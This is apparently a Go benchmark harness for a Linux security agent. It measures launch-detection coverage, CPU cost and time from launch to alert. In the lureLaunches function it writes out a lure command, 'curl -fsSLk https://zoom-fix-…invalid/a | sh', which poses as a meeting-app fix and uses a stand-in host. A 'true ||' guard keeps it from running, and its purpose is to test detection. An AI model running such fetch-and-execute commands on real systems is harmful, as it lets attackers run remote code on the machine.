//go:build linux

package main

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"time"

	"meetguard"
	"meetguard/internal/watch"
)

// stormWord begins the argument of every launch of a storm, so that the
// launches of others on this machine are not counted.
const stormWord = "meetguard-bench-"

// heard is what a listener has heard, in words that it writes down when it
// ends.
type heard struct {
	Args   int // different launches of storms that came with their arguments
	Events int // all launches that were told, those of others too
	Lost   int
	Unread int
}

// hearLaunches listens to one source until it is told to stop. It is what the
// agent does with launches, but for inspecting them.
func hearLaunches(source, out string) error {
	l, err := watch.NewLaunches(watch.LaunchesConfig{Source: source})
	if err != nil {
		return err
	}
	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM)
	defer stop()
	go func() {
		<-l.Ready()
		fmt.Println("Watching")
	}()
	words := map[string]bool{}
	err = l.Run(ctx, func(_ context.Context, e meetguard.Event) error {
		if args := e.Process.Args; len(args) > 0 && strings.HasPrefix(args[len(args)-1], stormWord) {
			words[args[len(args)-1]] = true
		}
		return nil
	})
	if err != nil {
		return err
	}
	c := l.Counters()
	data, err := json.Marshal(heard{Args: len(words), Events: int(c.ExecEvents), Lost: int(c.ExecLost), Unread: int(c.ExecUnread)})
	if err != nil {
		return err
	}
	return os.WriteFile(out, data, 0o644)
}

// ear starts a listener on one source.
func (e *env) ear(source string) (*watcher, string, error) {
	dir, state, err := e.folders("ear")
	if err != nil {
		return nil, "", err
	}
	out := filepath.Join(state, "heard.json")
	w, err := start(dir, out, e.self, "floor", "launches", source, out)
	return w, out, err
}

// hear ends a listener and reads what it has heard.
func (w *watcher) hear(out string) (h heard, err error) {
	w.rest()
	w.stop()
	data, err := os.ReadFile(out)
	if err != nil {
		return h, err
	}
	return h, json.Unmarshal(data, &h)
}

// storm launches a program n times, one after the other, each time with another
// argument, and gives the seconds for each.
func storm(tag string, n int, name string, args ...string) (series, error) {
	var s series
	for i := range n {
		cmd := exec.Command(name, append(args, fmt.Sprintf("%s%s-%d", stormWord, tag, i))...)
		began := time.Now()
		if err := cmd.Run(); err != nil {
			return nil, err
		}
		s = append(s, time.Since(began).Seconds())
	}
	return s, nil
}

// measureStorms holds the sources of launches, and what hearing them costs, to
// what they promise. It needs root, as they do.
func measureStorms(e *env) ([]result, error) {
	if os.Geteuid() != 0 {
		return noSources, nil
	}
	n := e.launches()
	rows, err := e.stormRows(n)
	if err != nil {
		return nil, err
	}
	short, err := e.shortLived(n / 10)
	if err != nil {
		return nil, err
	}
	agent, err := e.agentPerLaunch(n / 2)
	if err != nil {
		return nil, err
	}
	slower, err := e.agentStorm(n / 2)
	return slices.Concat(rows, short, agent, slower), err
}

// measureVerdicts holds the agent to how soon it judges a launch.
func measureVerdicts(e *env) ([]result, error) {
	if os.Geteuid() != 0 {
		return noSources, nil
	}
	return e.launchToAlert(e.launches() / 50)
}

var noSources = []result{{name: "sources of launches", figure: "not measured: they need root"}}

func (e *env) launches() int {
	if e.short {
		return 1000
	}
	return 10000
}

// stormRounds is how many short storms are sent in place of each long one: on a
// machine that others use too, only what is close together in time compares.
const stormRounds = 4

// stormRows sends storms with and without a listener, in turns.
func (e *env) stormRows(n int) ([]result, error) {
	rounds := stormRounds * e.rounds
	per := n / rounds
	var ratio, cpu series
	var all heard
	for round := range rounds {
		var h heard
		r, err := inTurns(round, per, func(storms func() error) error {
			w, out, err := e.ear("ebpf")
			if err != nil {
				return err
			}
			w.rest()
			spent, err := w.beyond(func() error {
				defer w.rest()
				return storms()
			})
			if err != nil {
				w.stop()
				return err
			}
			cpu = append(cpu, 1e3*spent/float64(per))
			h, err = w.hear(out)
			return err
		})
		if err != nil {
			return nil, err
		}
		all.Args, all.Lost, all.Unread = all.Args+h.Args, all.Lost+h.Lost, all.Unread+h.Unread
		ratio = append(ratio, r)
	}
	total := per * rounds
	return []result{
		atLeast(fmt.Sprintf("launches of %d that ended at once, seen with their arguments (ebpf)", total), all.Args, total, 1),
		{name: "launches lost or unread in these", figure: fmt.Sprint(all.Lost + all.Unread), bar: "0", passed: all.Lost+all.Unread == 0},
		loaded(told("CPU of hearing one launch (ebpf)", cpu, " ms"), cpu),
		loaded(told("one launch of a storm with the listener alone / without", ratio, "×"), ratio),
	}, nil
}

// inTurns sends one storm with what with starts and one without, now this one
// first and now that, and gives the ratio of what one launch took.
func inTurns(round, per int, with func(storms func() error) error) (float64, error) {
	var took, bare series
	without := func() (err error) {
		bare, err = storm(fmt.Sprint("without-", round), per, "true")
		return err
	}
	within := func() error {
		return with(func() (err error) {
			took, err = storm(fmt.Sprint("with-", round), per, "true")
			return err
		})
	}
	order := []func() error{without, within}
	if round%2 == 1 {
		order[0], order[1] = within, without
	}
	for _, part := range order {
		if err := part(); err != nil {
			return 0, err
		}
	}
	return took.median() / bare.median(), nil
}

// agentStorm is the same as the listener's, with the whole agent.
func (e *env) agentStorm(n int) ([]result, error) {
	var ratio series
	rounds := 2 * e.rounds
	for round := range rounds {
		r, err := inTurns(round, n/rounds, func(storms func() error) error {
			agent, err := e.watchAgent("storm", "")
			if err != nil {
				return err
			}
			defer agent.stop()
			agent.rest()
			return storms()
		})
		if err != nil {
			return nil, err
		}
		ratio = append(ratio, r)
	}
	return []result{loaded(atMost("one launch of a storm with the whole agent / without", ratio, 1.05, "×"), ratio)}, nil
}

// shortLived launches programs that live a few milliseconds, for the source
// that has to read their arguments afterwards.
func (e *env) shortLived(n int) ([]result, error) {
	w, out, err := e.ear("proc-connector")
	if err != nil {
		return nil, err
	}
	if _, err := storm("short", n, e.self, "floor", "nap"); err != nil {
		w.stop()
		return nil, err
	}
	h, err := w.hear(out)
	if err != nil {
		return nil, err
	}
	return []result{
		atLeast(fmt.Sprintf("launches of %d that lived 6 ms, seen with their arguments (proc-connector)", n), h.Args, n, 0.999),
		{name: "launches lost in these", figure: fmt.Sprint(h.Lost), bar: "0", passed: h.Lost == 0},
	}, nil
}

// launchToAlert launches lines that are alerts, but whose fetching part never
// runs, and gives the time from each launch to its verdict and to its alert on the
// disk, as the agent tells it, and to its line in the log, as others see it: of many in an agent that has run for a few
// seconds, and of the first in several that have just said that they watch.
func (e *env) launchToAlert(n int) ([]result, error) {
	warm, err := e.lureLaunches("warm", 5*time.Second, n)
	if err != nil {
		return nil, err
	}
	if len(warm.took) == 0 {
		return nil, fmt.Errorf("%d of %d lure launches made no alert", warm.missing, n)
	}
	var cold, coldVerdict series
	missing := warm.missing
	for i := range e.rounds {
		first, err := e.lureLaunches(fmt.Sprint("cold", i), 0, 1)
		if err != nil {
			return nil, err
		}
		cold, missing = append(cold, first.took...), missing+first.missing
		coldVerdict = append(coldVerdict, first.told.Verdict.P50)
	}
	late := warm.told
	return []result{
		{name: fmt.Sprintf("lure launches of %d that made no alert", n+e.rounds), figure: fmt.Sprint(missing), bar: "0", passed: missing == 0},
		late.row("launch to verdict, p50", late.Verdict.P50, 2),
		late.row("launch to verdict, p99", late.Verdict.P99, 20),
		late.stored("launch to alert on the disk, synced, p50", late.Verdict.P50, late.Stored.P50),
		late.stored("launch to alert on the disk, synced, p99", late.Verdict.P99, late.Stored.P99),
		loaded(told("launch to its line in the log, not synced yet, p50", series{warm.took.median()}, " ms"), warm.took),
		loaded(told("launch to its line in the log, not synced yet, p99", series{warm.took.quantile(0.99)}, " ms"), warm.took),
		loaded(told("the same from before its fork, p50", warm.forked, " ms"), warm.forked),
		loaded(told("launch to verdict, the first of a new agent", coldVerdict, " ms"), coldVerdict),
		loaded(told("launch to its line in the log, the first of a new agent", cold, " ms"), cold),
	}, nil
}

// lateness is what the agent tells in its status of the launches that made an
// alert, in milliseconds.
type lateness struct {
	Count           int
	Verdict, Stored struct{ P50, P99 float64 }
}

// readLateness reads it. The status is written soon after the last alert.
func readLateness(state string) (l lateness, err error) {
	time.Sleep(time.Second)
	var status struct {
		Late struct {
			Count   int                        `json:"count"`
			Verdict struct{ P50, P99 float64 } `json:"verdict_ms"`
			Stored  struct{ P50, P99 float64 } `json:"stored_ms"`
		} `json:"launch_alerts"`
	}
	data, err := os.ReadFile(filepath.Join(state, "status.json"))
	if err != nil {
		return l, err
	}
	err = json.Unmarshal(data, &status)
	return lateness(status.Late), err
}

// row is one figure of it; a bar of 0 is none.
func (l lateness) row(name string, ms, bar float64) result {
	r := result{name: name, figure: fmt.Sprintf("%.2f ms", ms), spread: fmt.Sprintf("n=%d", l.Count)}
	if bar > 0 {
		r.bar, r.passed = fmt.Sprintf("≤ %g ms", bar), ms <= bar
	}
	return r
}

// stored is a figure of the disk, and how much of it lies behind the verdict.
func (l lateness) stored(name string, verdict, disk float64) result {
	r := l.row(name, disk, 0)
	r.spread += fmt.Sprintf(", %.0f %% of it the record and its fsync", 100*(1-verdict/max(disk, 1e-6)))
	return r
}

// lures is what became of lure launches: the milliseconds from each launch, and
// from before its fork, until its line was seen in the log, and what the agent
// tells itself.
type lures struct {
	took, forked series
	missing      int
	told         lateness
}

// lureLaunches starts an agent, waits, and launches n lures. They come from a
// program with the name of cron: what it starts belongs together no more than
// its jobs do, while one terminal's launches would be one chain and one alert.
// The times are from when whoever launched it knew that it ran, which a busy
// machine makes late, and from before the fork, which is always too early.
func (e *env) lureLaunches(tag string, age time.Duration, n int) (l lures, err error) {
	launcher, err := e.newLauncher() // first: its own launch is not measured
	if err != nil {
		return l, err
	}
	defer launcher.stop()
	agent, err := e.watchAgent("launches", "")
	if err != nil {
		return l, err
	}
	defer agent.stop()
	time.Sleep(age)
	for i := range n {
		host := fmt.Sprintf("zoom-fix-%s-%d.invalid", tag, i)
		before, launched, err := launcher.launch(fmt.Sprintf("true || curl -fsSLk https://%s/a | sh", host))
		if err != nil {
			return l, err
		}
		told, err := agent.log.wait(host, 2*time.Second)
		if err != nil {
			return l, err
		}
		if told.IsZero() {
			l.missing++
		} else {
			l.took, l.forked = append(l.took, 1e3*told.Sub(launched).Seconds()), append(l.forked, 1e3*told.Sub(before).Seconds())
		}
		time.Sleep(30 * time.Millisecond)
	}
	l.told, err = readLateness(filepath.Dir(agent.log.path))
	return l, err
}

// launcher is a program of another name that launches what it is told to.
type launcher struct {
	cmd     *exec.Cmd
	lines   io.WriteCloser
	answers *bufio.Scanner
}

func (e *env) newLauncher() (*launcher, error) {
	dir, _, err := e.folders("launcher")
	if err != nil {
		return nil, err
	}
	name := filepath.Join(dir, "cron")
	if err := os.Link(e.self, name); err != nil {
		data, err := os.ReadFile(e.self) // on another file system
		if err != nil {
			return nil, err
		}
		if err := os.WriteFile(name, data, 0o755); err != nil {
			return nil, err
		}
	}
	l := &launcher{cmd: exec.Command(name, "floor", "launcher")}
	out, err := l.cmd.StdoutPipe()
	if err != nil {
		return nil, err
	}
	if l.lines, err = l.cmd.StdinPipe(); err != nil {
		return nil, err
	}
	l.answers = bufio.NewScanner(out)
	return l, l.cmd.Start()
}

// launch gives the moment before the fork, and that when the program ran.
func (l *launcher) launch(line string) (before, ran time.Time, err error) {
	if _, err := fmt.Fprintln(l.lines, line); err != nil {
		return before, ran, err
	}
	if !l.answers.Scan() {
		return before, ran, errors.New("the launcher has ended")
	}
	var from, to int64
	_, err = fmt.Sscan(l.answers.Text(), &from, &to)
	return time.Unix(0, from), time.Unix(0, to), err
}

func (l *launcher) stop() {
	l.lines.Close()
	_ = l.cmd.Wait() // it has done its work
}

// launchLines is the launcher's side: it has a shell run each line, and answers
// with the times before its fork and when it ran.
func launchLines() error {
	lines := bufio.NewScanner(os.Stdin)
	for lines.Scan() {
		cmd := exec.Command("sh", "-c", lines.Text())
		before := time.Now()
		if err := cmd.Start(); err != nil {
			return err
		}
		fmt.Println(before.UnixNano(), time.Now().UnixNano())
		_ = cmd.Wait() // only its launch matters
	}
	return lines.Err()
}

// loaded adds the spread of what was measured, and the load of the machine.
func loaded(r result, all series) result {
	load, _ := os.ReadFile("/proc/loadavg")
	first, _, _ := strings.Cut(string(load), " ")
	r.spread = fmt.Sprintf("%.2f…%.2f (n=%d), load %s", all.min(), all.max(), len(all), first)
	return r
}

// agentPerLaunch is the CPU of the whole agent, its workers too, for each launch
// of a storm of one program that it knows by then.
func (e *env) agentPerLaunch(n int) ([]result, error) {
	agent, err := e.watchAgent("storm", "")
	if err != nil {
		return nil, err
	}
	defer agent.stop()
	if _, err := storm("known", 20, "true"); err != nil {
		return nil, err
	}
	agent.rest()
	var cpu series
	for round := range e.rounds {
		spent, err := agent.beyond(func() error {
			_, err := storm(fmt.Sprint("agent-", round), n/e.rounds, "true")
			time.Sleep(2500 * time.Millisecond) // what is heard late, and the status
			return err
		})
		if err != nil {
			return nil, err
		}
		cpu = append(cpu, 1e3*spent/float64(n/e.rounds))
	}
	return []result{loaded(atMost("CPU of the whole agent for one launch of a program that it knows", cpu, 0.1, " ms"), cpu)}, nil
}

// beyond gives the seconds of CPU that the watcher took for work, beyond what it
// took in the two seconds before: others launch programs on this machine too.
func (w *watcher) beyond(work func() error) (float64, error) {
	const window = 2 * time.Second
	pid := w.cmd.Process.Pid
	first := familyCPU(pid)
	time.Sleep(window)
	before, began := familyCPU(pid), time.Now()
	err := work()
	idle := (before - first) / window.Seconds() * time.Since(began).Seconds()
	return familyCPU(pid) - before - idle, err
}

// atLeast makes the result of a share that has a bar.
func atLeast(name string, got, of int, bar float64) result {
	share := float64(got) / float64(of)
	return result{name: name, figure: fmt.Sprintf("%.2f %%", 100*share), spread: fmt.Sprintf("%d", got), bar: fmt.Sprintf("≥ %g %%", 100*bar), passed: share >= bar}
}
